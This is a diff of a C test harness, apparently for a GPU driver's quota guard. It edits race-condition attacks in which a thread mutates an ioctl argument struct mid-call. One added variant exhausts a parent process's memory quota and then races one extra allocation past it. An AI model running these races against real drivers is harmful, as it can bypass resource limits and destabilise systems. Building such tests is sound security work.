@@ -1,6 +1,7 @@
 /* Structs that change while they are looked at, signals, floods. */
 #include "attack.h"
 
+#include <limits.h>
 #include <signal.h>
 #include <stdatomic.h>
 #include <sys/time.h>
@@ -74,7 +75,7 @@ void attack_command_race (int argc, char **argv)
 }
 
 /* A class that becomes video memory. How many pieces there were. */
-static unsigned win (struct bed *bed, uint32_t class, unsigned rounds)
+static unsigned win (struct bed *bed, uint32_t class, unsigned rounds, unsigned most)
 {
     struct memory params = memory_of (64 * MIB);
     struct alloc call = { bed->client, bed->device, 0, class, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
@@ -83,7 +84,7 @@ static unsigned win (struct bed *bed, uint32_t class, unsigned rounds)
     pthread_t thread;
 
     pthread_create (&thread, NULL, flipping, &flip);
-    for (unsigned i = 0; i < rounds; i++) {
+    for (unsigned i = 0; i < rounds && given < most; i++) {
         call.object = bed->next++;
         call.status = 0xffff;
         given += ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
@@ -98,7 +99,7 @@ static void race (uint32_t class, int argc, char **argv)
     struct bed bed = bed_open ();
     uint32_t handle;
 
-    say ("given", win (&bed, class, argc > 0 ? (unsigned) atoi (argv[0]) : 2000));
+    say ("given", win (&bed, class, argc > 0 ? (unsigned) atoi (argv[0]) : 2000, UINT_MAX));
     hold ();
     say ("more", bed_memory (&bed, &handle, 9 * GIB));
     hold ();
@@ -107,15 +108,20 @@ static void race (uint32_t class, int argc, char **argv)
 /* One that only the caller can make: a device. */
 void attack_class_race (int argc, char **argv) { race (0x80, argc, argv); }
 
-/* The same by a child, on its parent's client, to which the driver counts it. */
+/* The same by a child, on its parent's client, to which the driver counts it: one piece when the quota is used up, and then a call by which the
+ * guard finds what was made. */
 void attack_heir_race (int argc, char **argv)
 {
     struct bed bed = bed_open ();
+    uint32_t handle;
     int status;
     pid_t child = fork ();
 
     if (child == 0) {
-        win (&bed, 0x80, argc > 0 ? (unsigned) atoi (argv[0]) : 2000);
+        while (bed_memory (&bed, &handle, 64 * MIB) == 0)
+            continue;
+        win (&bed, 0x80, argc > 0 ? (unsigned) atoi (argv[0]) : 2000, 1);
+        bed_memory (&bed, &handle, 64 * MIB);
         _exit (0);
     }
     waitpid (child, &status, 0);
